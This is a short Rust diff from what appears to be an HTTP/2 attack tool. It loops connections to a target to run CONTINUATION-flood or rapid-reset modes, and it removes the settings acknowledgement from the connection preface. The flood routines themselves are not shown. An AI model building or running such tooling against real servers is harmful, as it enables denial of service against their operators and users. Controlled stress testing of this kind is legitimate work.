@@ -43,7 +43,8 @@ pub fn http2(arena: Arc<Arena>) -> Attacking {
 async fn again(arena: Arc<Arena>, from: Ipv4Addr, continuing: bool) {
     loop {
         if let Ok(mut stream) = connect(from, arena.to.address).await {
-            let _ = if continuing { continuation(&arena, &mut stream).await } else { resets(&arena, &mut stream).await };
+            let _ =
+                if continuing { continuation(&arena, &mut stream).await } else { resets(&arena, &mut stream).await };
             arena.tally.note(if continuing { "continuation: closed" } else { "resets: closed" });
         } else {
             arena.tally.note("not connected");
@@ -72,8 +73,8 @@ fn head(host: &str) -> Vec<u8> {
 
 fn preface() -> Vec<u8> {
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    // The other side's settings are never acknowledged: whoever attacks does not wait for them.
     bytes.extend(frame(FRAME_SETTINGS, 0, 0, &[]));
-    bytes.extend(frame(FRAME_SETTINGS, 1, 0, &[]));
     bytes
 }
 
